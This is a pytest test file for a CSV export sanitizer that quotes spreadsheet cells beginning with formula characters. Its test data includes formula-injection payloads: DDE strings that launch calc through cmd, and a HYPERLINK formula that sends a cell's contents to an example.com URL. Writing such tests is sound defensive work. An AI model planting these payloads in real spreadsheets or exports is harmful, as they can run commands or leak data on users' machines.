"""Cells that a spreadsheet would run."""

import csv
import io
from datetime import date
from typing import Any

import pytest

from api.exports import csv_lines, harmless


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1)',
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "=",
        "-",
        "+",
        "-e5",
        "-5 ",
        "-1,5",
        "--5",
        "-\u0665",
        "-inf",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(value: str) -> None:
    assert harmless(value) == f"'{value}"


def test_a_semicolon_may_be_where_a_cell_begins() -> None:
    assert harmless("1;=1+1;2") == "1;'=1+1;2"
    assert harmless("=1;-5;x") == "'=1;-5;x"
    assert harmless("1;-2;+3") == "1;-2;+3"


@pytest.mark.parametrize(
    "value",
    [
        *("-5", "+1.5e3", "-.5", "+5.", "-1E-7", "5", "", "x=1", "a@example.com", "2024-01-01", "'=1+1", " =1+1", "#"),
        *(None, -5, -1.5, 0, True, date(2024, 1, 1)),
    ],
)
def test_numbers_and_other_text_stay_as_they_are(value: Any) -> None:
    assert harmless(value) is value


def test_every_cell_of_a_row_is_made_harmless_and_read_back_as_one() -> None:
    rows: list[list[Any]] = [["a", "=1", 5, None], ['=HYPERLINK("x","y")', "\r=1", "-5", "l1\nl2"]]

    read = list(csv.reader(io.StringIO(csv_lines(rows), newline="")))

    assert read == [["a", "'=1", "5", ""], ['\'=HYPERLINK("x","y")', "'\r=1", "-5", "l1\nl2"]]
